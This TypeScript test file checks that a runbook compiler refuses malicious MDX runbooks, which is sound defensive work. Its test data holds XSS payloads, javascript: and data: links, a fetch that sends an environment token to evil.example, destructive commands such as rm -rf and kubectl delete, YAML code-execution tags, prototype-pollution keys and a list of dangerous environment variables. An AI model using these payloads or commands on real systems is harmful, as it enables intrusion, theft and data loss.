/**
 * Runbooks as an author who means harm would write them, in a pull request say: code, what a page would obey, steps that do
 * another thing than they show, and claims that are not so. Each is refused with its place, or is text and nothing else.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compileRunbook } from '../../common/catalog/compile.ts';
import type { RunnableStep } from '../../common/catalog/step.ts';

const front = '---\ntitle: T\nservice: s\n---\n';
const compile = (text: string, head = front) => compileRunbook({ id: 'x', file: 'x.mdx', bytes: new TextEncoder().encode(head + text) });
const fence = (info: string, body = 'true') => `\`\`\`${info}\n${body}\n\`\`\`\n`;
const step = (text: string) => `${fence('bash run=a effect=read')}\n${text}`;

/** What must not become code, an element of another kind, or an address of another scheme. */
const refused: readonly [what: string, text: string][] = [
  ['an import', 'import x from "./x.js"'], ['an import from elsewhere', 'import x from "https://evil.example/x.js"'], ['an import for its effect', 'import "child_process"'], ['an import with another sign', 'import x from\n"y"'], ['an import when it runs', '{import("x")}'],
  ['an export', 'export const x = 1'], ['an export that fetches', 'export const x = fetch("https://evil.example/?" + process.env.TOKEN)'], ['an export of its own', 'export default () => null'], ['an export of all', 'export * from "x"'],
  ['an expression', '{1 + 1}'], ['an expression in a heading', '## A {process.env.HOME}'], ['an expression in a cell', '| a |\n|---|\n| {1} |'], ['an expression in a link', '[a](/x){alert(1)}'], ['an expression in a list', '- {globalThis}'], ['an expression in a quote', '> {1}'],
  ['a comment with code behind it', '{/* fine */ alert(1)}'], ['a comment that ends early', '{/* a */}{alert(1)}{/* b */}'], ['a regular expression', '{/x/}'], ['a template', '{`${1}`}'], ['a string', '{"text"}'], ['a function that is called', '{(() => 1)()}'],
  ['an attribute of code', '<a href={x}>y</a>'], ['an attribute of a template', '<a href={`https://x`}>y</a>'], ['an attribute of the environment', '<Manual id={process.env.X}>y</Manual>'], ['attributes spread', '<a {...props}>y</a>'], ['attributes of a prototype', '<a __proto__="x">y</a>'],
  ['HTML set from a string', '<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=alert(1)>"}} />'], ['HTML set from text', '<div dangerouslySetInnerHTML="x" />'], ['a handler', '<b onClick="alert(1)">y</b>'], ['a handler in small letters', '<b onclick="alert(1)">y</b>'],
  ['a handler of an animation', '<b onAnimationStart="alert(1)">y</b>'], ['a style', '<b style="position:fixed;inset:0">y</b>'], ['a style of code', '<b style={{position: "fixed"}}>y</b>'], ['a reference', '<b ref="x">y</b>'], ['a key', '<b key="x">y</b>'],
  ['a script', '<script>alert(1)</script>'], ['a script by its address', '<script src="https://evil.example/x.js" />'], ['a style sheet', '<style>body{display:none}</style>'], ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/x.css" />'], ['a frame', '<iframe src="https://evil.example" />'],
  ['an object', '<object data="x" />'], ['an embedded thing', '<embed src="x" />'], ['a form', '<form action="https://evil.example"><input /></form>'], ['a button of another', '<button formAction="/api/logout">Log in</button>'], ['a base', '<base href="https://evil.example" />'],
  ['a turning away', '<meta httpEquiv="refresh" content="0;url=https://evil.example" />'], ['a drawing with code', '<svg><animate onbegin="alert(1)" /></svg>'], ['mathematics', '<math><mtext>x</mtext></math>'], ['a template element', '<template>x</template>'], ['a slot', '<slot>x</slot>'],
  ['an element of one’s own', '<x-y>z</x-y>'], ['a component nobody knows', '<Danger />'], ['a part of a component', '<Manual.Danger />'], ['a name with a colon', '<svg:script>x</svg:script>'], ['a component inside another', '<Manual id="a">x <Danger /></Manual>'], ['a fragment', '<>x</>'],
  ['a link of script', '[y](javascript:alert(1))'], ['a link of script in capitals', '[y](JaVaScRiPt:alert(1))'], ['a link of script in codes', '[y](&#106;avascript:alert(1))'], ['a link of script with a tab', '[y](java&#9;script:alert(1))'], ['a link of script with a line', '[y](java&#10;script:alert(1))'],
  ['a link of data', '[y](data:text/html;base64,PHNjcmlwdD4=)'], ['a link of VBScript', '[y](vbscript:x)'], ['a link of a file', '[y](file:///etc/passwd)'], ['a link of a blob', '[y](blob:https://x/y)'], ['a link that is looked at', '[y](view-source:https://x)'], ['a picture of script', '![y](javascript:alert(1))'],
  ['a picture of data', '![y](data:image/svg+xml,<svg/onload=alert(1)>)'], ['a reference of script', '[y]\n\n[y]: javascript:alert(1)'], ['an attribute of script', '<a href="javascript:alert(1)">y</a>'], ['an attribute of script behind a space', '<a href=" javascript:alert(1)">y</a>'], ['an attribute of script behind a control', '<a href="&#1;javascript:alert(1)">y</a>'],
  ['a picture that is sourced', '<img src="data:image/svg+xml,x" alt="y" />'], ['sources of a picture', '<img srcSet="https://evil.example/x 1x" alt="y" />'], ['a link that opens and sees us', '<a href="https://x" target="_blank">y</a>'],
];
describe('a runbook holds no code, and nothing that a page obeys', () => {
  for (const [what, text] of refused) {
    it(`${what} is refused, with its place`, () => {
      for (const whole of [text, `Some words.\n\n${text}\n\n## More`, step(text)]) {
        const { runbook, problems } = compile(`${whole}\n`);
        assert.equal(runbook, null);
        assert.ok(problems.length > 0 && problems.every(({ line, column }) => line >= 1 && column >= 1));
      }
    });
  }
});

/** What is shown must be what runs, and what runs must be what is declared. */
const dishonest: readonly [what: string, text: string, message: RegExp][] = [
  ['two steps of one id', `${fence('bash run=a effect=read')}\n${fence('bash run=a effect=read', 'rm -rf x')}`, /is taken by/],
  ['a step and a file of one id', `${fence('yaml file=a.yaml id=a', 'a: 1')}\n${fence('bash run=a effect=read')}`, /./],
  ['a step and one by hand of one id', `${fence('bash run=a effect=read')}\n<Manual id="a">x</Manual>`, /is taken by/],
  ['a reading step that deletes', fence('bash run=a effect=read', 'kubectl delete pod x'), /destroy/],
  ['a reading step that deletes in a list', fence('bash run=a effect=read', 'true && kubectl delete pod x'), /destroy/],
  ['a reading step that deletes in a group', fence('bash run=a effect=read', '( kubectl delete pod x )'), /destroy/],
  ['a reading step that deletes behind a pipe', fence('bash run=a effect=read', 'kubectl get pods -o name | xargs kubectl delete'), /destroy|delete/],
  ['a reading step that deletes in a substitution', fence('bash run=a effect=read', 'echo "$(kubectl delete pod x)"'), /destroy/],
  ['a reading step that deletes by another path', fence('bash run=a effect=read', '/usr/bin/kubectl delete pod x'), /destroy/],
  ['a reading step that deletes with its options first', fence('bash run=a effect=read', 'kubectl -n x --context y delete pod z'), /destroy/],
  ['a reading step that deletes in a function', fence('bash run=a effect=read', 'f() { kubectl delete pod x; }; f'), /destroy/],
  ['a reading step that deletes in a loop', fence('bash run=a effect=read', 'for pod in a b; do kubectl delete pod "$pod"; done'), /destroy/],
  ['a reading step that deletes under another shell', fence('bash run=a effect=read', "bash -c 'kubectl delete pod x'"), /destroy/],
  ['a changing step that destroys', fence('bash run=a effect=change', 'kubectl delete statefulset x'), /destroy/],
  ['a reading step of Redis that flushes', fence('redis run=a effect=read', 'FLUSHALL'), /destroy/],
  ['a reading step of Redis that writes', fence('redis run=a effect=read', 'SET a b'), /change/],
  ['a reading step of Redis that runs a script', fence('redis run=a effect=read', 'EVAL "return 1" 0'), /destroy|change/],
  ['a step without an effect', fence('bash run=a'), /effect/],
  ['an effect that is none', fence('bash run=a effect=none'), /effect/],
  ['an effect said twice', fence('bash run=a effect=read effect=destroy'), /effect|twice/],
  ['a key that nobody knows', fence('bash run=a effect=read sudo=yes'), /sudo/],
  ['a key by its prototype', fence('bash run=a effect=read __proto__=x'), /./],
  ['an id of a path', fence('bash run=../../a effect=read'), /./],
  ['an id that looks like another', fence('bash run=а effect=read'), /./],
  ['an id with a control character', fence('bash run=a\u200b effect=read'), /./],
  ['a language that does not run', fence('python run=a effect=read', 'print(1)'), /./],
  ['a language by its prototype', fence('constructor run=a effect=read'), /./],
  ['text that reads the other way round', fence('bash run=a effect=read', 'echo "\u202ekcab" # \u202d'), /./],
  ['text with nothing to see in it', fence('bash run=a effect=read', 'echo a\u200bb'), /./],
  ['text with a return in it', fence('bash run=a effect=read', 'echo fine\rrm -rf x'), /./],
  ['text with an escape in it', fence('bash run=a effect=read', 'echo fine\u001b[2Krm'), /./],
  ['text with a NUL in it', fence('bash run=a effect=read', 'echo a\u0000b'), /./],
  ['a title with an escape in it', fence('bash run=a effect=read title="a\u001b[2Jb"'), /./],
  ['a title that reads the other way round', fence('bash run=a effect=read title="a\u202eb"'), /./],
  ['a time without end', fence('bash run=a effect=read timeout=99999999'), /timeout/],
  ['a time below zero', fence('bash run=a effect=read timeout=-1'), /timeout/],
  ['a need of itself', fence('bash run=a effect=read needs=a'), /needs/],
  ['a need of what is not there', fence('bash run=a effect=read needs=b'), /needs/],
  ['needs in a circle', `${fence('bash run=a effect=read needs=b')}\n${fence('bash run=b effect=read needs=a')}`, /needs/],
  ['a target that is not there', fence('bash run=a effect=read only=moon'), /moon|only/],
  ['a mask that never ends', fence('bash run=a effect=read mask="("'), /mask/],
  ['a file above its folder', fence('yaml file=../../x.yaml', 'a: 1'), /./],
  ['a file from the root', fence('yaml file=/etc/passwd', 'a: 1'), /./],
  ['a file of the shell’s beginning', fence('bash file=~/.bashrc', 'true'), /./],
];
describe('a step does what it shows, and is what it says', () => {
  for (const [what, text, message] of dishonest) {
    it(`${what} is refused`, () => {
      const { runbook, problems } = compile(text);
      assert.match(problems.map((problem) => problem.message).join('\n'), message);
      assert.equal(runbook, null);
    });
  }
});

/** Text that only looks like a step. None of it may run. */
const inert: readonly [what: string, text: string][] = [
  ['a block without a word of running', fence('bash', 'rm -rf /')], ['a block in a comment', '{/*\n```bash run=a effect=read\nrm\n```\n*/}'], ['a block of four marks', '````text\n```bash run=a effect=read\nrm\n```\n````'],
  ['code in a line', 'Type `bash run=a effect=read`.'], ['a word in the front matter', 'run=a effect=read'], ['a block of marks that are not', '‘‘‘bash run=a effect=read\nrm\n‘‘‘'],
];
describe('what only looks like a step is none', () => {
  for (const [what, text] of inert) {
    it(what, () => { assert.deepEqual(compile(text).runbook?.steps ?? [], []); });
  }
});

const heads: readonly [what: string, head: string][] = [
  ['a tag of JavaScript', 'title: !!js/function "function () { return 1 }"\nservice: s'], ['a tag of Python', 'title: !!python/object/apply:os.system ["id"]\nservice: s'], ['a tag of its own', 'title: !evil T\nservice: s'], ['a tag of bytes', 'title: !!binary aGVsbG8=\nservice: s'],
  ['an anchor that is used', 'title: &a T\nservice: *a'], ['a merge', 'x: &x {title: T}\n<<: *x\nservice: s'], ['a key of a prototype', 'title: T\nservice: s\n__proto__: {owners: [a]}'], ['a constructor', 'title: T\nservice: s\nconstructor: {prototype: {a: b}}'],
  ['a title that is a list', 'title: [T]\nservice: s'], ['a title that is a number', 'title: 7\nservice: s'], ['a title with a NUL', 'title: "a\\0b"\nservice: s'],
  ['a default that is none of its choices', 'title: T\nservice: s\nparameters: {A: {type: choice, choices: [b], default: c}}'], ['a default that runs', 'title: T\nservice: s\nparameters: {A: {type: name, default: "$(id)"}}'], ['a parameter that changes the shell', 'title: T\nservice: s\nparameters: {BASH_ENV: {type: text}}'],
  ['a parameter that changes where programs are', 'title: T\nservice: s\nparameters: {PATH: {type: text}}'], ['a parameter of make', 'title: T\nservice: s\nparameters: {MAKEFLAGS: {type: text}}'], ['a parameter of git', 'title: T\nservice: s\nparameters: {GIT_SSH_COMMAND: {type: text}}'], ['a parameter of kubectl', 'title: T\nservice: s\nparameters: {KUBECONFIG: {type: text}}'],
  ['a parameter of the editor', 'title: T\nservice: s\nparameters: {KUBE_EDITOR: {type: text}}'], ['a parameter of Node', 'title: T\nservice: s\nparameters: {NODE_OPTIONS: {type: text}}'], ['a parameter of the loader', 'title: T\nservice: s\nparameters: {LD_AUDIT: {type: text}}'],
  ['two documents', 'title: T\n---\ntitle: U\nservice: s'], ['an environment of a path', 'title: T\nservice: s\nenvironments: ["../prod"]'], ['a target of a path', 'title: T\nservice: s\ntargets: {"../x": {}}'],
];
describe('front matter is plain data', () => {
  for (const [what, head] of heads) {
    it(`${what} is refused`, { timeout: 60_000 }, () => { assert.equal(compile('x\n', `---\n${head}\n---\n`).runbook, null); });
  }
});

it('what a person only reads can be anything, and stays text', () => {
  const { runbook, problems } = compile(step('A `<script>` and `{1 + 1}`, &lt;b onclick&gt;, \\{x\\}, $\\{HOME\\}.\n'));
  assert.deepEqual(problems, []);
  assert.equal((runbook?.steps[0] as RunnableStep).source, 'true');
});
